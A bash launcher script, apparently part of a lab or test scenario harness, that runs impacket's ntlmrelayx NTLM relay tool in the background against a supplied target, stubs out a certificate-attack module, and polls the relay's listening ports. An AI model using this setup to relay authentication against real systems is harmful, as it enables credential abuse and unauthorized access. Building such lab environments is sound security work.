#!/bin/bash
# impacket's ntlmrelayx in the background: relay.sh start TARGET [OPTION...], relay.sh stop. It wants a module for certificate attacks that
# Debian does not package and that no scenario uses: an empty one stands in.
set -e
if [[ $1 == stop ]]; then
  kill "$(cat /run/relay.pid)"
  exit
fi
mkdir -p /tmp/stubs/dsinternals/common/{data,cryptography} /tmp/stubs/dsinternals/system
cp "$(dirname "$0")/dsinternals-stub.py" /tmp/stubs/sitecustomize.py
cd /tmp
PYTHONPATH=/tmp/stubs setsid tail -f /dev/null | PYTHONPATH=/tmp/stubs setsid python3 /usr/share/doc/python3-impacket/examples/ntlmrelayx.py \
  -t "$2" "${@:3}" -smb2support --no-wcf-server --no-raw-server >/run/relay.log 2>&1 &
for _ in {1..100}; do
  (: </dev/tcp/192.0.2.66/445) 2>/dev/null && (: </dev/tcp/192.0.2.66/80) 2>/dev/null && break
  sleep 0.2
done
pgrep -f ntlmrelayx.py | head -1 >/run/relay.pid
(: </dev/tcp/192.0.2.66/445) || { tail -5 /run/relay.log; exit 1; }
